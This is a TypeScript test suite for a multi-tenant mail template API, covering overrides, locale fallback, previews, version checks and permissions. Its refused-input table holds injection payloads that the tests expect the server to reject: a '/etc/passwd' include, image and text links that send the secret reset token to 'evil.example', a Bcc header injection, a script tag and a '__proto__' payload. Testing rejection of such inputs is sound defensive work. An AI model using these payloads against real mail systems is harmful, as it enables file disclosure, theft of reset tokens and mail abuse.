// Mail templates over HTTP: worded by a tenant, previewed, sent, and taken back.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { ADMIN, type Answer, type Call, type Person, startApp, type TestApp, unique } from '../../../../test/harness.ts'
import { mailsTo, waitForMail } from '../../../../test/mails.ts'

const CHANGED = {
  locale: 'en',
  subject: 'Quarry: {{ product }} has a new password for you',
  html: '<p>Good day {{ name | default: "friend" }},</p><p>your password is another one now.</p>',
}
const RESET = {
  locale: 'en',
  subject: 'A new password',
  html: '<p>Hi {{ name }}</p>{% button link %}Choose it{% endbutton %}',
}

describe('mail templates', () => {
  let ashlar: TestApp
  let second: TestApp
  let admin: Person
  before(async () => {
    ashlar = await startApp({ jobs: true })
    second = await startApp({ database: ashlar.database })
    admin = await ashlar.admin()
  })
  after(async () => {
    await second?.stop()
    await ashlar?.stop()
  })

  const call = (method: string, path: string, options: Call = {}) =>
    ashlar.call(method, `/api/v1/mail/templates${path}`, { token: admin.token, ...options })
  const put = (name: string, json: object, options: Call = {}): Promise<Answer> =>
    call('PUT', `/${name}`, { json, ...options })
  const preview = (name: string, json: object = {}, options: Call = {}): Promise<Answer> =>
    call('POST', `/${name}/preview`, { json, ...options })
  const drop = (name: string, locale: string, options: Call = {}) =>
    call('DELETE', `/${name}?locale=${locale}`, options)
  /** A tenant of its own, with its owner. */
  const tenant = async () => {
    const owner = await ashlar.person()
    const made = await ashlar.call('POST', '/api/v1/tenants', { token: owner.token, json: { name: unique('Quarry ') } })
    assert.equal(made.status, 201, made.text)
    return { id: made.body.id as string, owner, as: { token: owner.token, headers: { 'x-tenant-id': made.body.id } } }
  }
  const render = (app: TestApp, tenantId: string, template: string, locale: string | null, values: object) =>
    app.app.templates.render(app.drivers.database.tenant(tenantId), {
      template,
      locale,
      values: values as Record<string, string>,
    })

  it('are listed with what they are told, and read in each language', async () => {
    const { status, body } = await call('GET', '')
    assert.equal(status, 200)
    assert.deepEqual(
      body.data.slice(0, 2).map(({ name }: { name: string }) => name),
      ['layout', 'verify_email'],
    )
    const reset = body.data.find(({ name }: { name: string }) => name === 'password_reset')
    assert.deepEqual(reset.languages, ['en', 'de', 'zh-CN'])
    assert.deepEqual(
      reset.values.map((one: { name: string; secret: boolean }) => [one.name, one.secret]),
      [
        ['name', false],
        ['link', true],
        ['life', false],
        ['product', false],
        ['locale', false],
      ],
    )
    const german = await call('GET', '/password_reset?locale=de')
    assert.equal(german.body.product.subject, 'Legen Sie ein neues Passwort fest')
    assert.equal(german.body.override, null)
    assert.equal((await call('GET', '/password_reset')).body.locale, 'en')
    assert.equal((await call('GET', '/password_reset?locale=fr')).body.product, null)
    assert.match((await call('GET', '/layout')).body.product.html, /\{% block body %\}/)
    for (const name of ['nothing', 'constructor', '__proto__'])
      assert.ok([404, 422].includes((await call('GET', `/${name}`)).status), name)
    assert.equal((await call('GET', '/password_reset?locale=x')).status, 422)
  })

  it('are worded by a tenant: the mail is sent so, on every node, and the product’s again when it is taken back', async () => {
    const { id, owner, as } = await tenant()
    const values = { name: 'Mason', ip: '203.0.113.7' }
    const subject = async (app: TestApp) => (await render(app, id, 'password_changed', 'en', values)).subject
    assert.equal(await subject(ashlar), 'Your password was changed')
    assert.equal(await subject(second), 'Your password was changed')

    const written = await put('password_changed', CHANGED, as)
    assert.equal(written.status, 200, written.text)
    assert.deepEqual(written.body.override, { subject: CHANGED.subject, html: CHANGED.html, text: null })
    for (const app of [ashlar, second]) await until(async () => (await subject(app)).startsWith('Quarry: Ashlar'))
    const mail = await render(second, id, 'password_changed', 'en', values)
    assert.match(mail.html, /<!doctype html>[\s\S]*<p>Good day Mason,<\/p>/, 'in the layout of the product')
    assert.match(mail.text, /Good day Mason,\n\nyour password is another one now\./)
    assert.equal((await render(second, id, 'password_changed', 'de', values)).subject, 'Ihr Passwort wurde geändert')
    assert.equal(
      (await render(second, 'default', 'password_changed', 'en', values)).subject,
      'Your password was changed',
    )

    const removed = await drop('password_changed', 'en', as)
    assert.equal(removed.status, 200)
    assert.equal(removed.body.override, null)
    for (const app of [ashlar, second]) await until(async () => (await subject(app)) === 'Your password was changed')
    assert.equal((await drop('password_changed', 'en', as)).body.code, 'mail.template_not_found')

    const entries = await ashlar.rows<{ action: string; changes: object }>(
      `SELECT action, changes FROM audit_logs WHERE "tenantId" = $1 AND action LIKE 'mail.%' ORDER BY seq`,
      [id],
    )
    assert.deepEqual(
      entries.map(({ action }) => action),
      ['mail.template_written', 'mail.template_removed'],
    )
    assert.deepEqual(entries[0]!.changes, {
      locale: 'en',
      subject: [null, CHANGED.subject],
      htmlLength: [null, CHANGED.html.length],
    })
    assert.ok(owner.id)
  })

  it('serve every form of their language, before the product does', async () => {
    const { id, as } = await tenant()
    assert.equal((await put('password_set', { ...CHANGED_SET, locale: 'ZH' }, as)).body.locale, 'zh')
    const of = async (locale: string) => (await render(second, id, 'password_set', locale, { name: 'Ada' })).locale
    await until(async () => (await of('zh-CN')) === 'zh')
    assert.deepEqual([await of('zh-TW'), await of('de-CH'), await of('fr')], ['zh', 'de', 'en'])
  })

  it('are what people get, in the language of the person, else of the tenant', async () => {
    const [mason, reader] = [await ashlar.person(), await ashlar.person()]
    await ashlar.call('PATCH', '/api/v1/users/me', { token: mason.token, json: { locale: 'zh-CN' } })
    const forgot = (email: string) => ashlar.call('POST', '/api/v1/auth/forgot-password', { json: { email } })
    await forgot(mason.email)
    assert.match((await waitForMail(ashlar, mason.email, 'password_reset')).text, /Mason Reed，您好/)
    const settings = (locale: string | null) =>
      ashlar.call('PATCH', '/api/v1/tenants/default/settings', { token: admin.token, json: { locale } })
    assert.equal((await settings('de')).body.locale, 'de')
    assert.equal((await settings('nonsense-')).status, 422)
    await until(async () => (await render(ashlar, 'default', 'password_set', null, {})).locale === 'de')
    await forgot(reader.email)
    assert.match((await waitForMail(ashlar, reader.email, 'password_reset')).text, /Guten Tag Mason Reed,/)
    assert.equal((await settings(null)).body.locale, null)
    await until(async () => (await render(ashlar, 'default', 'password_set', null, {})).locale === 'en')
    assert.equal((await render(ashlar, 'default', 'password_set', 'fr', {})).locale, 'en')
  })

  it('a first guess at the language is what the browser prefers', async () => {
    const email = `${unique('p')}@example.com`
    const made = await ashlar.call('POST', '/api/v1/auth/register', {
      json: { email, password: 'Gr4nite-Quarry!' },
      headers: { 'accept-language': 'fr, de-AT;q=0.9, en;q=0.5' },
    })
    assert.equal(made.status, 201, made.text)
    assert.match((await mailsTo(ashlar, email))[0]!.text, /Guten Tag/)
    assert.deepEqual(await ashlar.rows('SELECT locale FROM users WHERE email = $1', [email]), [{ locale: 'de-AT' }])
  })

  it('bring the link of a reset in the wording of the tenant, and never without it', async () => {
    const reset = { ...RESET, locale: 'en' }
    try {
      assert.equal((await put('password_reset', reset)).status, 200)
      await until(async () => (await call('GET', '/password_reset')).body.override !== null)
      const person = await ashlar.person()
      await until(async () => {
        const { subject } = await render(ashlar, 'default', 'password_reset', 'en', { link: 'https://a.example/' })
        return subject === 'A new password'
      })
      await ashlar.call('POST', '/api/v1/auth/forgot-password', { json: { email: person.email } })
      const { text } = await waitForMail(ashlar, person.email, 'password_reset')
      assert.match(
        text,
        /^Ashlar\n\nHi Mason Reed\n\nChoose it:\nhttp:\/\/localhost:8000\/reset-password\?token=[\w-]+/,
      )
    } finally {
      await drop('password_reset', 'en')
    }
    for (const html of [
      '<p>Hi</p>',
      '{% if life %}{% button link %}Go{% endbutton %}{% endif %}',
      '{% block hidden %}<p>{{ link }}</p>{% endblock %}',
    ]) {
      const refused = await put('password_reset', { ...RESET, html })
      assert.equal(refused.status, 422, html)
      assert.equal(refused.body.code, 'mail.template_invalid')
      assert.match(refused.body.errors?.[0]?.message ?? refused.text, /must be shown in every case/)
    }
    const text = await put('password_reset', { ...RESET, text: 'Hello' })
    assert.match(text.text, /must be shown in every case/)
  })

  const refused: [string, string, object, RegExp][] = [
    ['a tag that is not closed', 'password_changed', { html: '<p>\n{% if name %}x</p>' }, /Line 2: .*not closed/],
    ['an unknown value', 'password_changed', { html: '<p>a</p>\n\n{{ nmae }}' }, /Line 3: There is no value \\?"nmae/],
    ['a secret of another mail', 'password_changed', { html: '<p>{{ link }}</p>' }, /no value/],
    ['a file', 'password_changed', { html: '{% include "/etc/passwd" %}' }, /no tag/],
    ['a prototype', 'password_changed', { html: '{{ name.constructor }}' }, /cannot be used/],
    ['a filter of the library', 'password_changed', { html: '{{ name | raw }}' }, /undefined filter: raw/],
    ['a leak', 'password_reset', { html: '<img src="https://evil.example/{{ link }}">' }, /secret link/],
    ['a leak in the text', 'password_reset', { ...RESET, text: 'https://evil.example/{{ link }}' }, /secret link/],
    ['a secret in the subject', 'password_reset', { ...RESET, subject: '{{ link }}' }, /secret link/],
    ['a script', 'own_news', { html: '<script>1</script>' }, /<script> cannot be used/],
    ['a broken subject', 'own_news', { subject: '{{ x' }, /not closed/],
    ['two lines of subject', 'own_news', { subject: 'a\nBcc: evil@example.com' }, /one line/],
    ['a layout without its blocks', 'layout', { html: '<html><body>Hi</body></html>' }, /must be shown in every case/],
    ['a layout that knows the link', 'layout', { html: '<html><body>{{ link }}</body></html>' }, /no value/],
  ]
  for (const [what, name, change, expected] of refused)
    it(`refuse ${what} with 422 and keep nothing`, async () => {
      const json = { locale: 'en', subject: 'S', html: '<p>x</p>', ...change }
      const written = await put(name, json)
      assert.equal(written.status, 422, written.text)
      assert.equal(written.body.code, 'mail.template_invalid')
      assert.match(written.text, expected)
      const shown = await preview(name, change)
      assert.equal(shown.status, 422, shown.text)
      assert.deepEqual(await ashlar.rows('SELECT name FROM mail_templates WHERE name = $1', [name]), [])
    })

  it('refuse what is no template at all', async () => {
    const good = { locale: 'en', subject: 'S', html: '<p>x</p>' }
    for (const [name, json] of [
      ['own_news', { ...good, locale: 'x' }],
      ['own_news', { ...good, html: 'x'.repeat(65_537) }],
      ['own_news', { ...good, html: '' }],
      ['own_news', { ...good, subject: ' ' }],
      ['own_news', { ...good, from: 'evil@example.com' }],
      ['own_news', { ...good, html: { raw: 'x' } }],
      ['Own', good],
      ['own-news', good],
      ['9news', good],
      ['a'.repeat(51), good],
    ] as const)
      assert.equal((await put(name, json)).status, 422, `${name} ${JSON.stringify(json).slice(0, 80)}`)
  })

  it('are compared by version where one is named', async () => {
    const { as } = await tenant()
    const first = await put('password_set', CHANGED_SET, as)
    const headers = { ...as.headers, 'if-match': first.headers.get('etag')! }
    assert.equal((await put('password_set', { ...CHANGED_SET, subject: 'Two' }, { ...as, headers })).status, 200)
    const stale = await put('password_set', { ...CHANGED_SET, subject: 'Three' }, { ...as, headers })
    assert.deepEqual([stale.status, stale.body.code], [412, 'mail.template_changed_meanwhile'])
    assert.equal((await drop('password_set', 'en', { ...as, headers })).status, 412)
    const now = await call('GET', '/password_set?locale=en', as)
    assert.equal(now.body.override.subject, 'Two')
    const current = { ...as.headers, 'if-match': now.headers.get('etag')! }
    assert.equal((await drop('password_set', 'en', { ...as, headers: current })).status, 200)
  })

  it('are previewed without being kept, with samples for what is not told', async () => {
    const shown = await preview('new_device', { locale: 'de', values: { name: 'Ada' } })
    assert.equal(shown.status, 200, shown.text)
    assert.match(shown.body.text, /Guten Tag Ada,[\s\S]*Firefox 128 unter Linux/)
    const draft = await preview('new_device', { html: '<p>{{ device }}</p>', subject: 'Draft' })
    assert.equal(draft.body.subject, 'Draft')
    assert.match(draft.body.html, /<p>Firefox 128 on Linux<\/p>/)
    assert.match((await preview('layout', { locale: 'zh-CN' })).body.html, /<html lang="zh-CN">[\s\S]*设置新密码/)
    assert.equal((await preview('own_missing')).body.code, 'mail.template_not_found')
    const own = { subject: 'Order {{ id }}', html: '<ul>{% for i in items %}<li>{{ i.name }}</li>{% endfor %}</ul>' }
    const values = { id: 7, items: [{ name: '<b>oak</b>' }, { name: 'elm' }] }
    const ordered = await preview('own_order', { ...own, values })
    assert.equal(ordered.body.subject, 'Order 7')
    assert.match(ordered.body.text, /- <b>oak<\/b>\n- elm/)
    assert.doesNotMatch(ordered.body.html, /<b>oak/)
    assert.match((await preview('own_order', { ...own, values: { items: [] } })).text, /\\"id\\" is missing/)
    for (const bad of [{ name: { x: 1 } }, { ip: ['x'] }, { nothing: 'x' }])
      assert.equal((await preview('new_device', { values: bad })).status, 422)
    assert.equal((await preview('own_order', { ...own, values: { id: 'x'.repeat(10_001), items: [] } })).status, 422)
    assert.equal((await preview('new_device', { values: JSON.parse('{"__proto__": {"name": "x"}}') })).status, 400)
    assert.deepEqual(await ashlar.rows("SELECT name FROM mail_templates WHERE name = 'own_order'"), [])
  })

  it('of a tenant’s own have a name, are found in any language, and are limited to 100', async () => {
    const { id, as } = await tenant()
    const own = { locale: 'fr', subject: 'Bonjour {{ name }}', html: '<p>{{ name }}, {{ day | date }}</p>' }
    assert.equal((await put('welcome', own, as)).status, 200)
    const values = { name: 'Ada', day: '2026-11-21' }
    const mail = await render(ashlar, id, 'welcome', 'en', values)
    assert.deepEqual([mail.locale, mail.subject], ['fr', 'Bonjour Ada'])
    assert.match(mail.text, /Ada, 21 novembre 2026/)
    await assert.rejects(render(ashlar, 'default', 'welcome', 'fr', values), { code: 'mail.template_not_found' })
    await assert.rejects(render(ashlar, id, 'welcome', 'fr', {}), { code: 'mail.template_invalid' })
    const { body } = await call('GET', '', as)
    assert.deepEqual(
      body.data.at(-1).overrides.map(({ locale }: { locale: string }) => locale),
      ['fr'],
    )

    await ashlar.rows(
      `INSERT INTO mail_templates ("tenantId", name, locale, subject, html) SELECT $1, 'own_' || n, 'en', 's', 'h' FROM generate_series(1, 97) n`,
      [id],
    )
    const many = await Promise.all(Array.from({ length: 6 }, (_, n) => put(`more_${n}`, { ...own, locale: 'en' }, as)))
    assert.deepEqual(many.map(({ status }) => status).sort(), [200, 200, 409, 409, 409, 409])
    assert.equal(many.find(({ status }) => status === 409)!.body.code, 'mail.template_limit')
    assert.equal(
      (await put('welcome', { ...own, locale: 'en' }, as)).status,
      200,
      'another language of one that is there',
    )
    assert.equal((await put('password_set', CHANGED_SET, as)).status, 200, 'the product’s are not counted')
  })

  it('stand in the layout of the tenant, whose one language serves all', async () => {
    const { id, as } = await tenant()
    const html =
      '<!doctype html><html lang="{{ locale }}"><head><title>{{ subject }}</title><style>h1{color:#a00}</style></head><body><img src="https://quarry.example/logo.png" alt="Blue Quarry"><h1>{% block heading %}{% endblock %}</h1>{% block body %}{% endblock %}{% block action %}{% endblock %}{% block note %}{% endblock %}<p>{{ footer }}</p></body></html>'
    assert.equal((await put('layout', { locale: 'en', subject: '', html }, as)).status, 200)
    const values = { name: 'Ada', link: 'https://a.example/?token=x', life: 60 }
    await until(async () => (await render(ashlar, id, 'password_reset', 'de', values)).html.includes('quarry.example'))
    const mail = await render(ashlar, id, 'password_reset', 'de', values)
    assert.match(mail.html, /<html lang="de">[\s\S]*Guten Tag Ada[\s\S]*Diese E-Mail hat Ashlar/)
    assert.match(mail.text, /https:\/\/a\.example\/\?token=x/)
    assert.doesNotMatch((await render(ashlar, 'default', 'password_reset', 'de', values)).html, /quarry/)
  })

  it('that fail on what a mail is told give way to the product’s', async () => {
    const { id, as } = await tenant()
    await put('password_set', CHANGED_SET, as)
    await ashlar.rows(
      `UPDATE mail_templates SET html = '<p>{% if name == "Ada" %}{{ name | date }}{% endif %}x</p>', "updatedAt" = now() + interval '1 second' WHERE "tenantId" = $1`,
      [id],
    )
    const fresh = await startApp({ database: ashlar.database })
    try {
      assert.equal((await render(fresh, id, 'password_set', 'en', { name: 'Bob' })).subject, CHANGED_SET.subject)
      const { subject, text } = await render(fresh, id, 'password_set', 'en', { name: 'Ada' })
      assert.equal(subject, 'An administrator set a new password for you')
      assert.match(text, /Hello Ada,/)
    } finally {
      await fresh.stop()
    }
  })

  it('ask the database nothing while the tenant has none', async () => {
    const asked: string[] = []
    const quiet = await startApp({
      database: ashlar.database,
      wrap: (database) => ({
        ...database,
        tenant(tenantId) {
          const db = database.tenant(tenantId)
          const one: typeof db.one = (statement) => {
            asked.push(statement.text)
            return db.one(statement)
          }
          return { ...db, one }
        },
      }),
    })
    try {
      const { id } = await tenant()
      await render(quiet, id, 'password_set', 'en', {})
      const before = asked.length
      for (let n = 0; n < 5; n++) await render(quiet, id, 'password_reset', 'de', { link: 'https://a.example/' })
      assert.equal(asked.length, before)
    } finally {
      await quiet.stop()
    }
  })

  it('are changed with mail:edit and seen with mail:view, in the tenant of the request and no other (TEN-1)', async () => {
    const [here, there] = [await tenant(), await tenant()]
    assert.equal((await put('secret_plan', CHANGED, there.as)).status, 200)
    const options = here.as
    for (const answer of [
      await call('GET', '/secret_plan?locale=en', options),
      await drop('secret_plan', 'en', options),
      await preview('secret_plan', {}, options),
    ])
      assert.deepEqual([answer.status, answer.body.code], [404, 'mail.template_not_found'])
    assert.doesNotMatch((await call('GET', '', options)).text, /secret_plan/)
    assert.equal((await put('secret_plan', CHANGED_SET, options)).status, 200)
    assert.equal((await call('GET', '/secret_plan?locale=en', there.as)).body.override.subject, CHANGED.subject)

    const member = await ashlar.person()
    for (const [method, path, json] of [
      ['GET', ''],
      ['GET', '/password_set'],
      ['POST', '/password_set/preview', {}],
      ['PUT', '/password_set', CHANGED_SET],
      ['DELETE', '/password_set?locale=en'],
    ] as const) {
      const answer = await call(method, path, { token: member.token, ...(json && { json }) })
      assert.equal(answer.status, 403, `${method} ${path}`)
      assert.equal(answer.body.permission, /PUT|DELETE/.test(method) ? 'mail:edit' : 'mail:view')
      assert.equal((await ashlar.call(method, `/api/v1/mail/templates${path}`, { ...(json && { json }) })).status, 401)
    }
    const token = await ashlar.call('POST', '/api/v1/tokens', {
      token: admin.token,
      json: { name: 'viewer', scopes: ['mail:view'] },
    })
    assert.equal((await call('GET', '', { token: token.body.token })).status, 200)
    assert.equal((await put('password_set', CHANGED_SET, { token: token.body.token })).status, 403)
    assert.ok(ADMIN.email)
  })
})

const CHANGED_SET = { locale: 'en', subject: 'One', html: '<p>{{ name }}: new password.</p>' }

async function until(done: () => Promise<boolean>): Promise<void> {
  for (const end = Date.now() + 5_000; Date.now() < end; await new Promise((next) => setTimeout(next, 20)))
    if (await done()) return
  assert.fail('It did not come to pass within five seconds.')
}
